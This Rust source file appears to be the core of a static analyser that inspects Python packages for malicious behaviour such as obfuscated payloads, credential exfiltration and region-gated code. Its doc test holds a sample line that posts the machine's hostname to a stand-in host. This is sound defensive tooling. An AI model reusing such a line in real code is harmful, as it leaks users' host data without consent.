//! The Python front end: `setup.py`, import-time `__init__.py` code and every other module of
//! an sdist or wheel, read as facts the shared rules understand.
//!
//! # Parser
//!
//! [`ruff_python_parser`] 0.0.10, the crates.io release of Ruff's parser, pinned exactly: the
//! later releases need Rust 1.96/1.97. Measured on the CPython 3.13 standard library it parses
//! 93 MB/s with 1 failure, against 18 MB/s and 7 failures on modern syntax for
//! `rustpython-parser` 0.4 and 11 MB/s for `tree-sitter-python`. It recovers from syntax
//! errors (Python 2 `except E, e:` or `print x` in old malware still yields the statements
//! around them), grows its own stack for deep nesting, and is maintained with the language.
//!
//! # Passes
//!
//! One walk ([`collect`]) records scopes and bindings, functions and classes, data edges
//! (assignments, augmented assignments, loop and `with` targets, returns, container writes),
//! calls, region-guard sites, imports and literal endpoints. Names resolve lazily
//! ([`resolve`]) through imports, aliases and Python's scoping rules to access paths such as
//! `socket.gethostname()`, which the knowledge catalog (`py_api.toml`) classifies.
//! [`value`] folds constants and undoes encodings (base64/32/16/85, hex, zlib, rot13, char
//! codes, XOR loops, split strings, reversal); [`taint`] propagates data kinds to a fixpoint
//! over the edges; [`sinks`] finds flows with their steps, commands (analysed with the shell
//! front end), dynamic code, decoded values and endpoints; [`credentials`] judges secrets placed
//! in a request's auth positions (use of the service they belong to, or exfiltration); [`ids`]
//! tells installation ids (generated ids kept on disk) from request ids;
//! [`consent`] finds opt-out checks of environment variables and the sends they gate;
//! [`guards`] finds region checks;
//! [`command`] builds the command lines Python code runs for the shell front end;
//! [`entry`] reads `setup()` for install-time commands; [`nested`] analyses constant code
//! passed to `exec` as its own source.
//!
//! # Hostile input
//!
//! Nothing panics on bad input: unparseable code gives a diagnostic, every recursion is
//! bounded, and an AST nested deeper than the analysis goes is leaked rather than dropped
//! (its recursive drop could overflow the stack).
//!
//! ```
//! let src = "import socket, requests\nrequests.post('https://x.example/c', data=socket.gethostname())\n";
//! let facts = telltale_python::analyze("pkg/mod.py", src, &Default::default());
//! assert_eq!(facts.flows.len(), 1);
//! ```

mod attributes;
mod cli_options;
mod collect;
mod command;
mod consent;
mod credentials;
mod decode;
mod dropper;
mod entry;
mod guards;
mod ids;
mod interp;
pub mod metadata;
mod nested;
mod resolve;
mod settings;
mod sinks;
mod taint;
mod value;

#[cfg(test)]
mod tests;

use ruff_python_ast::{Expr, Mod, Stmt};
use ruff_python_parser::{parse_unchecked, Mode, ParseOptions};
use ruff_text_size::TextRange;
use rustc_hash::FxHashMap as HashMap;
use std::cell::{Cell, RefCell};
use std::rc::Rc;
use telltale_facts::{FileFacts, Kinds, Span};

/// Files larger than this are not parsed.
pub const DEFAULT_MAX_PARSE_BYTES: usize = 64 << 20;

/// Nesting of statements and expressions the analysis follows; deeper code is skipped with a
/// diagnostic.
pub(crate) const MAX_DEPTH: u32 = 200;

/// How the diagnostic of a file that could not be parsed at all begins.
pub(crate) const PARSE_FAILED: &str = "could not parse";

/// Knobs for one analysis.
#[derive(Debug, Clone)]
pub struct Options {
    pub max_parse_bytes: usize,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            max_parse_bytes: DEFAULT_MAX_PARSE_BYTES,
        }
    }
}

pub(crate) type ScopeId = u32;
pub(crate) type NodeId = u32;

/// The module scope.
pub(crate) const MODULE: ScopeId = 0;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ScopeKind {
    Module,
    Function(usize),
    Class(usize),
}

/// A module, function (or lambda) or class body.
pub(crate) struct Scope<'a> {
    pub parent: Option<ScopeId>,
    pub kind: ScopeKind,
    /// Names bound in this scope (assigned, imported, parameters, loop targets, definitions).
    pub bound: rustc_hash::FxHashSet<&'a str>,
    pub globals: rustc_hash::FxHashSet<&'a str>,
    pub nonlocals: rustc_hash::FxHashSet<&'a str>,
    /// In a method: the first parameter (`self`) and the class scope its attributes live in.
    pub self_param: Option<(&'a str, ScopeId)>,
}

/// A variable: a name in a scope, an attribute of `self` in a class, or a function's result.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum Var<'a> {
    Name(ScopeId, &'a str),
    Attr(ScopeId, &'a str),
    Ret(usize),
}

/// How a variable got a value: what constant folding and alias resolution read.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Binding<'a> {
    /// `x = value` (or `x: T = value`, `(x := value)`) written in `scope`; `stmt` is the
    /// whole statement.
    Assign {
        value: &'a Expr,
        scope: ScopeId,
        stmt: TextRange,
    },
    /// `x += value`, and the `for` loop it sits directly in, if any.
    Aug {
        value: &'a Expr,
        scope: ScopeId,
        op: ruff_python_ast::Operator,
        stmt: TextRange,
        in_for: Option<&'a ruff_python_ast::StmtFor>,
    },
    /// `import a.b as x`, `from a import b as x`: the module path.
    Import(&'a str, Option<&'a str>, u32),
    Def(usize),
    Class(usize),
    /// A loop target, parameter, `with … as x`, tuple unpacking: no single value.
    Other,
}

pub(crate) enum FnBody<'a> {
    Block(&'a [Stmt]),
    Expr(&'a Expr),
}

pub(crate) struct Func<'a> {
    pub name: &'a str,
    pub scope: ScopeId,
    /// Positional parameters, then keyword-only ones.
    pub params: Vec<&'a str>,
    /// The default of each parameter in `params`, where it has one.
    pub defaults: Vec<Option<&'a Expr>>,
    pub positional: usize,
    pub body: FnBody<'a>,
    pub range: TextRange,
}

pub(crate) struct Class<'a> {
    pub name: &'a str,
    pub scope: ScopeId,
    pub bases: Vec<&'a Expr>,
    pub methods: HashMap<&'a str, usize>,
    pub body: &'a [Stmt],
    /// The class header (`class X(install):`), for locations.
    pub header: TextRange,
}

pub(crate) enum EdgeSrc<'a> {
    Expr(&'a Expr, ScopeId),
}

/// `target` gets what `src` carries; `span` is the statement or call, for steps.
pub(crate) struct Edge<'a> {
    pub target: NodeId,
    pub src: EdgeSrc<'a>,
    pub span: TextRange,
}

pub(crate) struct Call<'a> {
    pub call: &'a ruff_python_ast::ExprCall,
    pub scope: ScopeId,
}

/// A value placed where a request carries its credentials (see [`credentials`]): a dict entry
/// under an auth key (`{"Authorization": f"Bearer {tok}"}`), `headers["x-api-key"] = v`, or the
/// `auth=` argument of a request. Kept out of the data flow and judged apart.
pub(crate) struct AuthValue<'a> {
    pub value: &'a Expr,
    pub key: &'a str,
    /// The entry, assignment or keyword that places it.
    pub at: TextRange,
    pub scope: ScopeId,
    /// What it is written into (`headers` of `headers["Authorization"] = v`); for a dict
    /// literal, the variable it is assigned to is found from the bindings.
    pub holder: Option<&'a Expr>,
}

/// A statement that may guard code on region data (see [`guards`]).
pub(crate) struct GuardSite<'a> {
    pub stmt: &'a ruff_python_ast::StmtIf,
    pub scope: ScopeId,
    /// The statements after the `if` in its block (for `if x != "RU": return`).
    pub rest: &'a [Stmt],
}

/// State shared by the passes over one file.
pub(crate) struct Analyzer<'a> {
    pub src: &'a str,
    /// The module's statements.
    pub body: &'a [Stmt],
    pub scopes: Vec<Scope<'a>>,
    pub funcs: Vec<Func<'a>>,
    pub classes: Vec<Class<'a>>,
    pub bindings: HashMap<Var<'a>, Vec<Binding<'a>>>,
    pub nodes: HashMap<Var<'a>, NodeId>,
    pub edges: Vec<Edge<'a>>,
    pub calls: Vec<Call<'a>>,
    pub guard_sites: Vec<GuardSite<'a>>,
    /// Every comparison, for the constants an opt-out read outside a condition is compared
    /// with (`DISABLED = os.getenv("X", "").lower() == "true"`).
    pub compares: Vec<(&'a Expr, ScopeId)>,
    /// Credentials placed in requests, judged apart from the data flow.
    pub auth_values: Vec<AuthValue<'a>>,
    /// Values stored under a telemetry attribute key (`{"host.name": …}`,
    /// `span.set_attribute("user.id", …)`), with the key and the entry (see [`attributes`]).
    pub telemetry_attributes: Vec<(&'a Expr, &'a str, TextRange, ScopeId)>,
    /// Where generated ids that a write keeps on disk are made (see [`ids`]).
    pub persisted_ids: rustc_hash::FxHashMap<u32, telltale_facts::Step>,
    /// Outermost `a + b` chains, `sep.join(…)` calls and stepped slices: strings assembled
    /// from pieces or reversed.
    pub assembled: Vec<(&'a Expr, ScopeId)>,
    /// Parameters whose value a function opens as a file: (function, parameter index).
    pub opened_params: Vec<(usize, usize)>,
    pub facts: FileFacts,
    pub node_kinds: Vec<Kinds>,
    pub state: Vec<Option<taint::NodeState>>,
    pub path_memo: RefCell<HashMap<Var<'a>, Option<Rc<str>>>>,
    /// Paths of expressions, by address (see [`resolve`]).
    pub expr_paths: RefCell<HashMap<usize, Option<Rc<str>>>>,
    /// Work left for constant evaluation in this file (steps of [`value`]).
    pub eval_budget: Cell<u32>,
    /// Statement bodies being run ([`interp`]), for their nesting bound.
    pub(crate) run_depth: Cell<u32>,
    /// Constant code passed to `exec`, analysed after this file's passes.
    pub nested_code: Vec<nested::Pending>,
    /// What each command run with a constant skeleton prints, by call start (see [`command`]).
    pub command_memo: RefCell<HashMap<u32, command::Output>>,
    /// Some code was nested deeper than [`MAX_DEPTH`] and skipped.
    pub too_deep: Cell<bool>,
}

impl<'a> Analyzer<'a> {
    /// The node of a variable, created on first use.
    pub(crate) fn node(&mut self, v: Var<'a>) -> NodeId {
        let next = self.nodes.len() as NodeId;
        *self.nodes.entry(v).or_insert(next)
    }

    pub(crate) fn snippet(&self, r: TextRange) -> String {
        snippet_of(self.src, r.start().to_u32(), r.end().to_u32())
    }
}

/// A one-line excerpt of at most ~100 characters.
pub(crate) use telltale_knowledge::strings::snippet as snippet_of;

pub(crate) fn span_of(r: TextRange) -> Span {
    Span::new(r.start().to_u32(), r.end().to_u32())
}

/// Analyse one Python file.
pub fn analyze(path: &str, src: &str, opts: &Options) -> FileFacts {
    analyze_at_depth(path, src, opts, 0)
}

/// Analyse code at a nesting depth (0: a file; 1: code a file passes to `exec`; …).
pub(crate) fn analyze_at_depth(path: &str, src: &str, opts: &Options, depth: u32) -> FileFacts {
    let mut facts = FileFacts {
        file: path.to_string(),
        ..Default::default()
    };
    if src.len() > opts.max_parse_bytes {
        facts.diagnostics.push(format!(
            "not parsed: {} bytes is over the {} byte limit (raise it with --max-file-bytes)",
            src.len(),
            opts.max_parse_bytes
        ));
        facts.not_analysed = Some(format!(
            "over the parse limit of {} bytes (--max-file-bytes)",
            opts.max_parse_bytes
        ));
        return facts;
    }
    let parsed = parse_unchecked(src, ParseOptions::from(Mode::Module));
    let errors = parsed.errors().len();
    let first_error = parsed
        .errors()
        .first()
        .map(|e| e.error.to_string())
        .unwrap_or_default();
    let Mod::Module(module) = parsed.into_syntax() else {
        facts
            .diagnostics
            .push(format!("{PARSE_FAILED}: not a module"));
        facts.not_analysed = Some(format!("{PARSE_FAILED}: not a module"));
        return facts;
    };
    if errors > 0 {
        if module.body.is_empty() {
            facts
                .diagnostics
                .push(format!("{PARSE_FAILED}: {first_error}"));
            facts.not_analysed = Some(format!("{PARSE_FAILED}: {first_error}"));
            return facts;
        }
        facts.diagnostics.push(format!(
            "parsed with {errors} syntax error(s), first: {first_error}"
        ));
        facts.partly_analysed = Some(format!("{errors} syntax error(s), first: {first_error}"));
    }
    let deep = deeper_than(&module.body, DROP_DEPTH);
    let mut an = Analyzer {
        src,
        body: &module.body,
        scopes: Vec::new(),
        funcs: Vec::new(),
        classes: Vec::new(),
        bindings: HashMap::default(),
        nodes: HashMap::default(),
        edges: Vec::new(),
        calls: Vec::new(),
        guard_sites: Vec::new(),
        compares: Vec::new(),
        auth_values: Vec::new(),
        telemetry_attributes: Vec::new(),
        persisted_ids: Default::default(),
        assembled: Vec::new(),
        opened_params: Vec::new(),
        facts,
        node_kinds: Vec::new(),
        state: Vec::new(),
        path_memo: RefCell::new(HashMap::default()),
        expr_paths: RefCell::new(HashMap::default()),
        eval_budget: Cell::new(value::EVAL_BUDGET),
        run_depth: Cell::new(0),
        nested_code: Vec::new(),
        command_memo: RefCell::new(HashMap::default()),
        too_deep: Cell::new(false),
    };
    collect::collect(&mut an, &module.body);
    taint::run(&mut an);
    sinks::run(&mut an);
    dropper::run(&mut an);
    credentials::run(&mut an);
    attributes::run(&mut an);
    ids::settle_sources(&mut an);
    guards::run(&mut an);
    consent::run(&mut an);
    settings::run(&mut an);
    cli_options::run(&mut an);
    entry::run(&mut an, &module.body);
    if an.too_deep.get() {
        an.facts.diagnostics.push(format!(
            "code nested deeper than {MAX_DEPTH} levels was not analysed"
        ));
        an.facts.partly_analysed = Some(format!(
            "code nested deeper than {MAX_DEPTH} levels was not analysed"
        ));
    }
    let pending = std::mem::take(&mut an.nested_code);
    let mut facts = an.facts;
    dedupe(&mut facts);
    if deep {
        // Dropping a tree this deep recurses once per level: keep it instead.
        std::mem::forget(module);
    }
    nested::analyze_pending(&mut facts, pending, opts, depth);
    facts
}

fn dedupe(f: &mut FileFacts) {
    f.endpoints
        .sort_by(|a, b| (a.span, &a.host).cmp(&(b.span, &b.host)));
    f.endpoints
        .dedup_by(|a, b| a.span == b.span && a.host == b.host);
    f.obfuscations.sort_by_key(|o| o.span);
    f.obfuscations.dedup_by(|a, b| {
        a.span.start >= b.span.start && a.span.end <= b.span.end && a.decoded == b.decoded
    });
    f.sources.sort_by_key(|s| (s.span, s.kind));
    f.sources
        .dedup_by(|a, b| a.span == b.span && a.kind == b.kind);
    f.flows.sort_by_key(|fl| fl.span);
    f.requires.sort();
    f.requires.dedup();
}

/// Trees nested deeper than this are leaked rather than dropped: dropping recurses once per
/// level, and a hostile file of a million `-` signs would overflow the stack. Ordinary code
/// (even a concatenation of a few thousand strings) stays below it, and both the probe and a
/// drop this deep fit in a 2 MiB thread stack.
const DROP_DEPTH: u32 = 4000;

/// Whether any statement or expression is nested deeper than `limit` (a complete walk that
/// stops descending at the limit, so its own recursion is bounded).
fn deeper_than(body: &[Stmt], limit: u32) -> bool {
    use ruff_python_ast::visitor::{walk_expr, walk_stmt, Visitor};
    struct Probe {
        depth: u32,
        limit: u32,
        hit: bool,
    }
    impl Probe {
        /// One level down, unless that is past the limit.
        fn enter(&mut self) -> bool {
            self.hit |= self.depth >= self.limit;
            self.depth += 1;
            !self.hit
        }
    }
    impl<'b> Visitor<'b> for Probe {
        fn visit_stmt(&mut self, s: &'b Stmt) {
            if self.enter() {
                walk_stmt(self, s);
            }
            self.depth -= 1;
        }
        fn visit_expr(&mut self, e: &'b Expr) {
            if self.enter() {
                walk_expr(self, e);
            }
            self.depth -= 1;
        }
    }
    let mut p = Probe {
        depth: 0,
        limit,
        hit: false,
    };
    for s in body {
        p.visit_stmt(s);
    }
    p.hit
}
